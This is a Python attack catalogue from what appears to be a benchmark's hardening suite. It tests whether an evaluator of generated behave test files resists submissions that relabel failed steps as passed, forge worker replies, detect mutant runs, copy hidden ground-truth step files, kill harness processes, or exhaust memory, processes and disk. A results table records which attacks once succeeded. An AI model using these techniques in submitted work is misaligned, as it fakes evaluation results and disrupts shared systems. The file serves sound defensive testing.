                _os.kill(worker, signal.SIGSTOP)
                time.sleep(90)
                _os.kill(worker, signal.SIGCONT)
        finally:
            _os._exit(0)
    _os.waitpid(pid, 0)


@then("the total is {n:d}")
def then_total(context, n):
    worker = _worker_pid()
    if worker is not None:
        _freeze(worker)
    assert context.calc.total == 999
''')

FAILING = GIVEN_WHEN + "\n\n" + FALSE_THEN

# ----------------------------------------------------------------------------- class 7
MEM_HOG = _module('''
# A correct test whose Given step asks for 30 GB, 1 GB at a time, all held at once.
# Self-limiting: it stops at 8 GB held, or fails itself after 8 s (inside a 10 s run timeout) or
# when the machine has < 6 GB free.
import os
import time


def _free_gb():
    return os.sysconf("SC_AVPHYS_PAGES") * os.sysconf("SC_PAGE_SIZE") / (1 << 30)


def _hog():
    chunks = []
    deadline = time.monotonic() + 8
    try:
        for _ in range(30):
            if len(chunks) >= 8:
                break
            if time.monotonic() > deadline or _free_gb() < 6:
                # stopped by its own safety limit before the sandbox's bound: on a loaded machine
                # (fewer chunks in 5 s) it would otherwise pass as the correct test it is, and the
                # attack's outcome would measure the machine, not the bound (it failed so in a run
                # beside a build at load 7). Failing here keeps the outcome "not pass" either way.
                raise RuntimeError("memory hog stopped by its own time/free-memory limit")
            chunks.append(b"\\x01" * (1 << 30))  # written, so really resident
    finally:
        chunks.clear()
''', GIVEN_WHEN.replace("    context.calc = Calculator()", "    _hog()\n    context.calc = Calculator()"), CORRECT_THEN)

FORK_BOMB = _module('''
# A correct test whose Given step forks as fast as it can (each child blocks on a pipe).
# Self-limiting: at most 1500 processes and 5 s, then every child is released and reaped.
import os
import time


def _bomb():
    r, w = os.pipe()
    children = []
    deadline = time.monotonic() + 5
    try:
        while len(children) < 1500 and time.monotonic() < deadline:
            pid = os.fork()
            if pid == 0:
                os.close(w)
                os.read(r, 1)
                os._exit(0)
            children.append(pid)
    finally:
        os.close(w)
        os.close(r)
        for pid in children:
            os.waitpid(pid, 0)
''', GIVEN_WHEN.replace("    context.calc = Calculator()", "    _bomb()\n    context.calc = Calculator()"), CORRECT_THEN)

PROCESS_FLOOD = _module('''
# The fork bomb without os.fork: 1500 `sleep` processes started with subprocess.
# Self-limiting: at most 1500 processes and 5 s, then every one is killed and reaped.
import subprocess
import time


def _flood():
    procs = []
    deadline = time.monotonic() + 5
    try:
        while len(procs) < 1500 and time.monotonic() < deadline:
            procs.append(subprocess.Popen(["sleep", "30"], stdin=subprocess.DEVNULL,
                                          stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL))
    finally:
        for proc in procs:
            proc.kill()
        for proc in procs:
            proc.wait()
''', GIVEN_WHEN.replace("    context.calc = Calculator()", "    _flood()\n    context.calc = Calculator()"),
    CORRECT_THEN)

SPARSE_FILE = _module('''
# A correct test whose Given step creates a 20 GB file (sparse: no disk blocks are used, so it
# is harmless here, but it is 20 GB to any file-size limit), then removes it.
import os


def _big_file():
    path = os.path.join(os.path.dirname(os.path.abspath(__file__)), "big.bin")
    try:
        with open(path, "wb") as fh:
            fh.seek(20 << 30)
            fh.write(b"\\0")
    finally:
        if os.path.exists(path):
            os.remove(path)
''', GIVEN_WHEN.replace("    context.calc = Calculator()", "    _big_file()\n    context.calc = Calculator()"),
    CORRECT_THEN)

DISK_FILL = _module('''
# A correct test whose Given step writes a 20 GB file for real, 64 MB at a time.
# Self-limiting: it stops at 3 GB, after 5 s, or when the disk has < 20 GB free; then removes it.
import os
import shutil
import time


def _fill():
    path = os.path.join(os.path.dirname(os.path.abspath(__file__)), "fill.bin")
    chunk = b"\\x01" * (64 << 20)
    deadline = time.monotonic() + 5
    try:
        with open(path, "wb") as fh:
            for _ in range((20 << 30) // len(chunk)):
                if fh.tell() >= (3 << 30) or time.monotonic() > deadline \\
                        or shutil.disk_usage(os.path.dirname(path)).free < (20 << 30):
                    break
                fh.write(chunk)
                fh.flush()
    finally:
        if os.path.exists(path):
            os.remove(path)
''', GIVEN_WHEN.replace("    context.calc = Calculator()", "    _fill()\n    context.calc = Calculator()"), CORRECT_THEN)

TMPFS_FILL = _module('''
# A correct test whose Given step fills /tmp (a tmpfs in the sandbox: memory no process owns,
# which outlives the process until the sandbox ends) with up to 20 GB.
# Self-limiting: stops at 4 GB, after 5 s, or when the machine has < 6 GB free; removes it.
import os
import time


def _free_gb():
    return os.sysconf("SC_AVPHYS_PAGES") * os.sysconf("SC_PAGE_SIZE") / (1 << 30)


def _fill_tmp():
    path = os.path.join("/tmp", "fill-%d.bin" % os.getpid())
    chunk = b"\\x01" * (64 << 20)
    deadline = time.monotonic() + 5
    try:
        with open(path, "wb") as fh:
            for _ in range((20 << 30) // len(chunk)):
                if fh.tell() >= (4 << 30):
                    break
                if time.monotonic() > deadline or _free_gb() < 6:
                    # its own safety limit, not the sandbox's bound (see the memory hog)
                    raise RuntimeError("tmpfs fill stopped by its own time/free-memory limit")
                fh.write(chunk)
    finally:
        if os.path.exists(path):
            os.remove(path)
''', GIVEN_WHEN.replace("    context.calc = Calculator()", "    _fill_tmp()\n    context.calc = Calculator()"),
    CORRECT_THEN)


# ----------------------------------------------------------------------------- the catalogue
ATTACKS: list[Attack] = [
    # 1 ------------------------------------------------------------------------------
    Attack("step_run_patch", 1, "wrap behave.model.Step.run at import: failed steps re-labelled passed",
           {STEPS: STEP_RUN_PATCH}, NOT_PASS),
    Attack("scenario_run_patch", 1, "wrap behave.model.Scenario.run: scenario status forced to passed",
           {STEPS: SCENARIO_RUN_PATCH}, NOT_PASS),
    Attack("after_step_hook", 1, "find the Runner in the loader's frame, install an after_step hook that "
                                 "re-labels failed steps", {STEPS: AFTER_STEP_HOOK}, NOT_PASS),
    Attack("status_enum_rename", 1, "behave's Status.failed renamed 'passed' (Status.failed._name_)",
           {STEPS: STATUS_RENAME}, NOT_PASS),
    Attack("match_run_patch", 1, "wrap behave.matchers.Match.run: AssertionError from any step swallowed",
           {STEPS: MATCH_RUN_PATCH}, NOT_PASS),
    Attack("formatter_flip", 1, "a formatter appended to context._runner.formatters at run time re-labels "
                                "failed steps in close() and clears the cached statuses", {STEPS: FORMATTER_FLIP}, NOT_PASS),
    # 2 ------------------------------------------------------------------------------
    Attack("forge_protocol_reply", 2, "Worker.proto_out + session request from the frames: a forged session "
                                      "reply (pass, every gold kill) written to the protocol; worker killed",
           {STEPS: FORGE_PROTOCOL_REPLY}, NOT_PASS),
    Attack("report_and_exit", 2, "bench.frameworks.behave.forking.report_and_exit: forged passing clean result, "
                                 "forged kill in every mutant run", {STEPS: REPORT_AND_EXIT}, NOT_PASS),
    Attack("raw_fd_forge", 2, "protocol pipe found via /proc fd tables, kill list via gc: forged reply "
                              "written with os.write; worker killed", {STEPS: RAW_FD_FORGE}, NOT_PASS),
    Attack("worker_globals_patch", 2, "patch the worker's __main__: RunRecorder.run passes the clean run, "
                                      "_summarize_run reports every mutant killed",
           {STEPS: WORKER_GLOBALS_PATCH}, NOT_PASS),
    # 3 ------------------------------------------------------------------------------
    Attack("profiler_probe", 3, "assert-free; fails when sys.getprofile() is None (mutant runs are untraced)",
           {STEPS: PROFILER_PROBE}, NOT_PASS),
    Attack("code_snapshot", 3, "assert-free; fails when a production __code__ differs from its import-time "
                               "snapshot or from the source on disk", {STEPS: CODE_SNAPSHOT}, NOT_PASS),
    Attack("ppid_probe", 3, "assert-free; fails unless its parent is the process that loaded the steps",
           {STEPS: PPID_PROBE}, NOT_KILL_COMPLETE),
    Attack("marker_file", 3, "assert-free; the first run leaves a marker file, every later run fails",
           {STEPS: MARKER_FILE}, NOT_KILL_COMPLETE),
    Attack("mmap_marker", 3, "assert-free; the first run marks its own file through a writable mapping "
                             "(descriptor closed at once), every later run fails", {STEPS: MMAP_MARKER},
           NOT_KILL_COMPLETE),
    Attack("shared_counter", 3, "assert-free; run counter in fork-shared anonymous mmap: only run #1 passes",
           {STEPS: SHARED_COUNTER}, NOT_KILL_COMPLETE),
    Attack("timing_probe", 3, "assert-free; fails when a call loop is not several times slower than at "
                              "import (the clean run is traced)", {STEPS: TIMING_PROBE}, NOT_KILL_COMPLETE),
    Attack("coin_flip", 3, "assert-free; fails at random 5 runs in 6 (no detection at all)",
           {STEPS: COIN_FLIP}, NOT_KILL_COMPLETE, flaky=True),
    # 4 ------------------------------------------------------------------------------
    Attack("gold_importlib", 4, "generic module: follows a workspace symlink to the worker's project copy and "
                                "imports its features/steps/*.py", {"features/steps/all_steps.py": GOLD_IMPORTLIB},
           GOLD_UNREACHABLE),
    Attack("gold_exec", 4, "generic module: finds features/steps next to the imported production package and "
                           "exec()s each gold file under its own directory's name",
           {"features/steps/all_steps.py": GOLD_EXEC}, GOLD_UNREACHABLE),
    Attack("gold_importlib_shop", 4, "the same generic module on three tinyshop instances (needs the tinyshop "
                                     "example dataset)", {"features/steps/all_steps.py": GOLD_IMPORTLIB},
           GOLD_UNREACHABLE, dataset="shop", targets=SHOP_TARGETS),
    # 5 ------------------------------------------------------------------------------
    Attack("env_rewrite", 5, "correct test that appends a raising before_scenario to the shared environment.py",
           {STEPS: ENV_REWRITE}, NEXT_UNHARMED, companions=(NEXT,)),
    Attack("delete_shared", 5, "correct test that deletes the worker copy's .feature/.py files",
           {STEPS: DELETE_SHARED}, NEXT_UNHARMED, companions=(NEXT,)),
    Attack("daemon", 5, "correct test that leaves a setsid daemon killing the next session's processes",
           {STEPS: DAEMON}, NEXT_UNHARMED, companions=(NEXT,)),
    Attack("daemon_subprocess", 5, "the daemon as a separate interpreter (subprocess, start_new_session), "
                                   "no name a static screen flags", {STEPS: DAEMON_SUBPROCESS}, NEXT_UNHARMED,
           companions=(NEXT,)),
    Attack("pycache_poison", 5, "correct test that plants a .pyc for minicalc/__init__ in the import-time "
                                "mutant worker's shared cache: later import-time mutants survive",
           {STEPS: PYCACHE_POISON}, NEXT_UNHARMED, companions=(NEXT,)),
    # 6 ------------------------------------------------------------------------------
    Attack("kill_parent", 6, "failing test that SIGKILLs its parent (the session) first",
           {STEPS: KILL_PARENT}, CONTAINED, companions=(NEXT,)),
    Attack("kill_worker", 6, "failing test that SIGKILLs the warm worker (again after every restart)",
           {STEPS: KILL_WORKER}, CONTAINED, companions=(NEXT,)),
    Attack("kill_parent_shell", 6, "kill_parent done by `sh -c kill` (no name a static screen flags)",
           {STEPS: KILL_PARENT_SHELL}, CONTAINED, companions=(NEXT,)),
    Attack("kill_worker_shell", 6, "kill_worker done by a shell walking the process tree",
           {STEPS: KILL_WORKER_SHELL}, CONTAINED, companions=(NEXT,)),
    Attack("protocol_garbage", 6, "failing test that writes a non-JSON line into the worker's protocol pipe",
           {STEPS: PROTOCOL_GARBAGE}, CONTAINED, companions=(NEXT,)),
    Attack("freeze_worker", 6, "failing test that SIGSTOPs the worker (a detached helper resumes it after 90 s)",
           {STEPS: FREEZE_WORKER}, CONTAINED, companions=(NEXT,)),
    Attack("nul_in_name", 6, "failing test plus a file named with a NUL byte",
           {STEPS: FAILING, "features/steps/x\x00.py": "X = 1\n"}, REJECTED, companions=(NEXT,)),
    Attack("control_char_name", 6, "failing test plus a file whose name is an escape sequence and a newline",
           {STEPS: FAILING, "features/steps/\x1b[2J\r\n.py": "X = 1\n"}, REJECTED, companions=(NEXT,)),
    Attack("long_name", 6, "failing test plus a file whose name is longer than any file system allows",
           {STEPS: FAILING, "features/steps/" + "x" * 300 + ".py": "X = 1\n"}, REJECTED, companions=(NEXT,)),
    Attack("file_dir_conflict", 6, "failing test at features/steps/a.py plus features/steps/a.py/b.py",
           {"features/steps/a.py": FAILING, "features/steps/a.py/b.py": "X = 1\n"}, REJECTED, companions=(NEXT,)),
    Attack("directory_name", 6, "failing test plus a 'file' at features/data, an existing fixture directory",
           {STEPS: FAILING, "features/data": "not a directory\n"}, REJECTED, companions=(NEXT,)),
    Attack("surrogate_content", 6, "failing test whose content holds a lone surrogate (\\ud800 in the JSON)",
           {STEPS: FAILING + "\n# \ud800\n"}, REJECTED, companions=(NEXT,)),
    Attack("surrogate_name", 6, "failing test plus a file whose name holds a lone surrogate",
           {STEPS: FAILING, "features/steps/x\udfff.py": "X = 1\n"}, REJECTED, companions=(NEXT,)),
    # 7 ------------------------------------------------------------------------------
    Attack("memory_hog", 7, "correct test that holds up to 8 GB (of 30 GB asked) in 1 GB chunks", {STEPS: MEM_HOG},
           BOUNDED),
    Attack("fork_bomb", 7, "correct test that forks 1500 processes (bounded by count and 5 s)",
           {STEPS: FORK_BOMB}, BOUNDED),
    Attack("process_flood", 7, "correct test that starts 1500 `sleep` processes with subprocess (no os.fork)",
           {STEPS: PROCESS_FLOOD}, BOUNDED),
    Attack("sparse_20gb_file", 7, "correct test that creates a 20 GB (sparse) file", {STEPS: SPARSE_FILE}, BOUNDED),
    Attack("disk_fill", 7, "correct test that writes 3 GB (of 20 GB asked) to disk", {STEPS: DISK_FILL}, BOUNDED),
    Attack("tmpfs_fill", 7, "correct test that puts 4 GB (of 20 GB asked) into the sandbox's tmpfs /tmp",
           {STEPS: TMPFS_FILL}, BOUNDED),
]

BY_NAME = {a.name: a for a in ATTACKS}

# What each attack achieved against the evaluator before the rebuild (git HEAD 50c5003, bwrap,
# workers=1, timeout 20 s; scripts/attack_report.py, /tmp/attack_report_before.md).
# "kc" = kill_complete; "next" = the companion's oracle prediction evaluated after it.
BEFORE = {
    "step_run_patch": "pass (recall 4/5)", "scenario_run_patch": "pass (recall 4/5)",
    "after_step_hook": "pass (recall 4/5)", "status_enum_rename": "pass (recall 4/5)",
    "match_run_patch": "pass (recall 4/5)", "formatter_flip": "pass (recall 4/5)",
    "forge_protocol_reply": "pass, kc", "report_and_exit": "pass, kc", "raw_fd_forge": "pass, kc",
    "worker_globals_patch": "pass, kc",
    "profiler_probe": "pass, kc", "code_snapshot": "pass, kc", "ppid_probe": "pass, kc", "marker_file": "pass, kc",
    "shared_counter": "pass, kc", "timing_probe": "pass, kc",
    "mmap_marker": "not measured (added with the change-notification reset, 2026-12-01)",
    "coin_flip": "random: pass 1 run in 6, kc in ~40 % of those (2 kc in 7 tries)",
    "gold_importlib": "pass, kc", "gold_exec": "pass, kc", "gold_importlib_shop": "pass, kc on all three instances",
    "env_rewrite": "pass, kc; next: execution_failure (hook_error)",
    "delete_shared": "pass, kc; next: build_failure (no feature files)",
    "daemon": "pass, kc; next: infrastructure_failure (session killed)",
    "daemon_subprocess": "pass, kc; next: infrastructure_failure (session killed)",
    "pycache_poison": "pass (4/5); next: pass without kc (its import-time mutant survives)",
    "kill_parent": "infrastructure_failure (excluded from N_exec); next fine",
    "kill_worker": "EvaluationError: the whole run aborts, again on resume",
    "kill_parent_shell": "infrastructure_failure (excluded from N_exec); next fine",
    "kill_worker_shell": "EvaluationError: the whole run aborts, again on resume",
    "protocol_garbage": "JSONDecodeError: the whole run aborts, again on resume",
    "freeze_worker": "assertion_failure after a 90 s stall (no deadline on the worker)",
    "nul_in_name": "infrastructure_failure", "control_char_name": "assertion_failure (Linux accepts the name)",
    "long_name": "infrastructure_failure", "file_dir_conflict": "infrastructure_failure",
    "directory_name": "infrastructure_failure",
    "surrogate_content": "UnicodeEncodeError: the whole run aborts, again on resume",
    "surrogate_name": "UnicodeEncodeError: the whole run aborts, again on resume",
    "memory_hog": "pass, kc (7-8 GB held)", "fork_bomb": "pass, kc (1500 processes)",
    "process_flood": "pass, kc (1500 processes)",
    "sparse_20gb_file": "pass, kc", "disk_fill": "pass, kc (3 GB written)", "tmpfs_fill": "pass, kc (4 GB in /tmp)",
}


# ----------------------------------------------------------------------------- running
@dataclass
class AttackRun:
    """What one evaluation of an attack produced (one run directory)."""

    attack: str
    results: dict[str, dict[str, Any]] = field(default_factory=dict)   # instance id -> results.jsonl record
    error: str | None = None          # evaluate() raised: the whole run aborted
    resume_error: str | None = None   # ... and again when resumed
    seconds: float = 0.0

    def target(self, attack: Attack) -> dict[str, Any] | None:
        return self.results.get(attack.targets[0])


def oracle_files(dataset_dir: Path) -> dict[str, dict[str, str]]:
    from bench.calibrate import calibration_predictions

    return {p.instance_id: dict(p.files) for p in calibration_predictions(dataset_dir)["oracle"]}


def write_predictions(path: Path, attack: Attack, oracles: dict[str, dict[str, str]]) -> Path:
    lines = [{"instance_id": t, "files": attack.files} for t in attack.targets]
    lines += [{"instance_id": c, "files": oracles[c]} for c in attack.companions]
    # ensure_ascii (the default) keeps NULs, control characters and lone surrogates as \\u escapes
    path.write_text("".join(json.dumps(line) + "\n" for line in lines), encoding="utf-8")
    return path


def run_attack(attack: Attack, dataset_dir: Path, run_dir: Path, oracles: dict[str, dict[str, str]],
               timeout: float = 10.0, resume: bool = True) -> AttackRun:
    """Evaluate the attack (targets, then companions) in one run; resume once if it aborted."""
    from bench.evaluate import EvaluateOptions, evaluate

    run_dir = Path(run_dir)
    run_dir.mkdir(parents=True, exist_ok=True)
    predictions = write_predictions(run_dir.parent / f"{run_dir.name}.jsonl", attack, oracles)
    instances = list(attack.targets) + list(attack.companions)
    out = AttackRun(attack.name)
    started = time.monotonic()

    def once() -> str | None:
        try:
            evaluate(dataset_dir, predictions, run_dir,
                     EvaluateOptions(workers=1, timeout=timeout, instances=instances, resamples=50))
            return None
        except BaseException as exc:  # an abort is what we measure
            if isinstance(exc, KeyboardInterrupt):
                raise
            return f"{type(exc).__name__}: {exc}".splitlines()[0][:300] or traceback.format_exc(limit=1)

    out.error = once()
    out.seconds = time.monotonic() - started
    if out.error is not None and resume:
        out.resume_error = once()
    journal = run_dir / "results.jsonl"
    if journal.is_file():
        for line in journal.read_text(encoding="utf-8").splitlines():
            if line.strip():
                record = json.loads(line)
                out.results[record["instance_id"]] = record
    return out


COMPARED_FIELDS = ("outcome", "detail", "api_f1", "coverage_jaccard", "mutant_recall", "kill_complete",
                   "kill_complete_relaxed", "assertion_dependent_recall", "hidden_recall", "ground_truth_kills",
                   "generated_kills", "mutant_timeouts", "generated_api_calls")


def comparable(record: dict[str, Any]) -> dict[str, Any]:
    return {k: record.get(k) for k in COMPARED_FIELDS}


def violations(attack: Attack, run: AttackRun, alone: dict[str, dict[str, Any]] | None = None) -> list[str]:
    """Why ``run`` does not meet the attack's NEW expectation (empty: it does).

    ``alone``: companion instance id -> its result when its oracle prediction is evaluated alone.
    """
    expect = attack.expectation
    problems = []
    if run.error is not None:
        problems.append(f"the run aborted: {run.error}")
    if run.resume_error is not None:
        problems.append(f"the resumed run aborted again: {run.resume_error}")
    if expect.max_seconds is not None and run.seconds > expect.max_seconds:
        problems.append(f"took {run.seconds:.0f}s (bound {expect.max_seconds:.0f}s)")
    for target in attack.targets:
        record = run.results.get(target)
        if record is None:
            problems.append(f"{target}: no result")
            continue
        outcome = record["outcome"]
        if outcome == "infrastructure_failure":
            problems.append(f"{target}: infrastructure_failure ({record.get('detail', '')[:120]})")
        if outcome == "pass" and record.get("kill_complete") and not expect.kill_complete_allowed:
            problems.append(f"{target}: pass + kill_complete")
        elif outcome == "pass" and not expect.pass_allowed:
            problems.append(f"{target}: pass")
        if expect.outcomes and outcome not in expect.outcomes:
            problems.append(f"{target}: outcome {outcome}, expected one of {', '.join(expect.outcomes)}")
        if expect.detail_contains and expect.detail_contains not in (record.get("detail") or ""):
            problems.append(f"{target}: detail {record.get('detail', '')[:80]!r} lacks {expect.detail_contains!r}")
    for companion in attack.companions:
        record = run.results.get(companion)
        if record is None:
            problems.append(f"companion {companion}: no result")
            continue
        if record["outcome"] != "pass" or not record.get("kill_complete"):
            problems.append(f"companion {companion}: {record['outcome']}, kill_complete={record.get('kill_complete')} "
                            f"({(record.get('detail') or '')[:100]})")
        elif alone is not None and companion in alone and comparable(record) != comparable(alone[companion]):
            diff = {k: (v, alone[companion].get(k)) for k, v in comparable(record).items()
                    if v != alone[companion].get(k)}
            problems.append(f"companion {companion}: differs from its evaluation alone: {diff}")
    return problems


# ============================================================================= class 4: the filesystem
# (issue 25, "nothing to steal, by construction") Generic loaders that know nothing of the
# instance or of our layout: they search the whole disk a run sees for a steps directory
# naming the steps of the workspace's feature files and load every file of it. Before the
# sandbox bound the ``bench`` package alone, the directory holding it (src/, or site-packages
# for a wheel) was readable, and with it harness/resources/examples/tinyshop/features/steps:
# FS_LOADER_COPY scored pass + kill_complete on all three tinyshop instances (FS_LOADER_EXEC
# was caught by the audit hook opening the files' bytecode: tampering). Now the search finds
# nothing, the module defines no step and the run stops at its first undefined step
# (tests/integration/test_readable_files.py proves no ground-truth file is readable at all).
_FS_SEARCH = _src('''
    """Generic step module: no test logic. It reads the step lines of the workspace's feature
    files, searches the filesystem (sys.path entries, site-packages, their parents, then /) for a
    steps directory whose Python files name those steps, and loads every file of it."""
    import os
    import site
    import sys

    _SKIP = {"proc", "sys", "dev", "node_modules", ".git"}
    _KEYWORDS = ("Given ", "When ", "Then ", "And ", "But ")


    def _step_texts():
        texts = set()
        for dirpath, dirnames, filenames in os.walk(os.getcwd()):
            for name in filenames:
                if name.endswith(".feature"):
                    with open(os.path.join(dirpath, name), encoding="utf-8") as fh:
                        for line in fh:
                            line = line.strip()
                            for keyword in _KEYWORDS:
                                if line.startswith(keyword):
                                    text = line[len(keyword):].split('"')[0].split("<")[0].strip()
                                    if len(text.split()) >= 2:
                                        texts.add(text)
        return texts


    def _roots():
        roots = []
        for entry in [*sys.path, *site.getsitepackages(), site.getusersitepackages(), "/"]:
            if entry and os.path.isdir(entry):
                roots.append(entry)
                parent = os.path.dirname(entry.rstrip("/"))
                if parent and os.path.isdir(parent):
                    roots.append(parent)
        return roots


    def _candidates(budget=400000):
        workspace = os.path.realpath(os.getcwd())
        seen = set()
        for root in _roots():
            for dirpath, dirnames, filenames in os.walk(root):
                budget -= len(filenames) + 1
                if budget < 0:
                    return
                real = os.path.realpath(dirpath)
                dirnames[:] = [d for d in dirnames if d not in _SKIP and not d.startswith("__")]
                if real in seen:
                    dirnames[:] = []
                    continue
                seen.add(real)
                if real == workspace or real.startswith(workspace + os.sep):
                    continue
                if os.path.basename(dirpath) == "steps" or any(f.endswith("_steps.py") for f in filenames):
                    yield dirpath, [f for f in filenames if f.endswith(".py")]


    def _found(texts):
        for directory, files in _candidates():
            sources = []
            for name in files:
                try:
                    with open(os.path.join(directory, name), encoding="utf-8") as fh:
                        sources.append(fh.read())
                except (OSError, UnicodeDecodeError):
                    pass
            hits = sum(1 for t in texts if any(t in source for source in sources))
            if texts and hits >= max(1, len(texts) // 4):
                return directory, files
        return None, []


    _directory, _files = _found(_step_texts())
''')

FS_LOADER_COPY = _FS_SEARCH + _src('''
    if _directory:
        # copies next to this file, loaded by a plain import of a module written here: the
        # code runs as this test's own (no exec, no computed import for a screen to see)
        import shutil

        _here = os.path.dirname(os.path.abspath(__file__))
        _names = []
        for _name in sorted(_files):
            if _name != os.path.basename(__file__):
                shutil.copyfile(os.path.join(_directory, _name), os.path.join(_here, _name))
                _names.append(_name[:-3])
        with open(os.path.join(_here, "_found_all.py"), "w", encoding="utf-8") as _fh:
            _fh.write("".join("import " + n + "\\n" for n in _names))
        sys.path.insert(0, _here)
        import _found_all  # noqa: F401
''')

FS_LOADER_EXEC = _FS_SEARCH + _src('''
    if _directory:
        import importlib.util

        sys.path.insert(0, _directory)
        for _name in sorted(_files):
            if _name != os.path.basename(__file__):
                _spec = importlib.util.spec_from_file_location("_found_" + _name[:-3], os.path.join(_directory, _name))
                _module = importlib.util.module_from_spec(_spec)
                _spec.loader.exec_module(_module)
''')

NOTHING_FOUND = Expectation("not pass: nothing to find on the sandbox's disk (binding failure: no step defined; "
                            "execution failure if the search outlives the run's time limit)",
                            outcomes=("binding_failure", "execution_failure"))

FS_ATTACKS = [
    Attack("gold_fs_search_copy", 4, "generic module: searches sys.path, site-packages, their parents and / for a "
                                     "steps directory naming the feature files' steps, copies its files next to "
                                     "itself and imports them (tinyshop: the bundled example's own steps)",
           {"features/steps/all_steps.py": FS_LOADER_COPY}, NOTHING_FOUND, dataset="shop", targets=SHOP_TARGETS),
    Attack("gold_fs_search_exec", 4, "the same search; each found file loaded in place by importlib's "
                                     "spec_from_file_location/exec_module",
           {"features/steps/all_steps.py": FS_LOADER_EXEC}, NOTHING_FOUND, dataset="shop", targets=SHOP_TARGETS),
]
ATTACKS.extend(FS_ATTACKS)
BY_NAME.update({a.name: a for a in FS_ATTACKS})
BEFORE.update({
    "gold_fs_search_copy": "pass, kc on all three instances (src/ bound: harness/resources/examples/tinyshop)",
    "gold_fs_search_exec": "tampering (audit hook: open of the found steps' __pycache__ bytecode)",
})
# ============================================================================= end of class 4: the filesystem
